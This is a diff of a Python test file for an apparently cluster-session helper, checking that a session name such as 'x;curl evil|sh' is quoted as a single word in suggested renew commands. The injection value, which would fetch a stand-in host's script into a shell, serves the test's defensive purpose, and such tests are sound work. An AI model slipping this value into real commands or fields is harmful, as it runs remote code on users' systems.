@@ -268,11 +268,15 @@ def test_no_fix_holds_what_a_host_would_have_you_type(word: str) -> None:
     assert doctor.findings({"host": "unity", **facts}) == []
 
 
-def test_the_command_for_another_allocation_is_one_word_for_a_shell_whatever_the_session_is_called() -> None:
-    panes = ("$0 1700000000 1700000000 0 900 %0 f* knode o e77 TIMEOUT 1700000050 w t x;curl evil|sh",)
+@pytest.mark.parametrize(("name", "word"), [("x;curl evil|sh", "x;curl evil|sh"), ("--forget", "SESSION")])
+def test_no_name_of_a_session_is_more_than_a_word_of_the_command_beside_it(name: str, word: str) -> None:
+    panes = (f"$0 1700000000 1700000000 0 900 %0 f* knode o e77 TIMEOUT 1700000050 w t {name}",)
     picture = picture_of({"host": HOST, "panes": panes, "jobs": (), "end": ()})
     said = news.truth(picture.entries[0], "unity", picture)
-    assert shlex.split(said.rpartition(": ")[2]) == ["lnode", "unity", "x;curl evil|sh", "--renew"]
+    assert shlex.split(said.rpartition(": ")[2]) == ["lnode", "unity", word, "--renew"]
+    process = rescue.parse(["uid 1", "mine yes", f"session {name}"])
+    assert not isinstance(process, str)
+    assert shlex.split(rescue.why_safe(process, "unity").rpartition(": ")[2]) == ["lnode", "unity", word]
 
 
 def test_whose_session_it_is_stays_open_where_the_node_has_no_name() -> None:
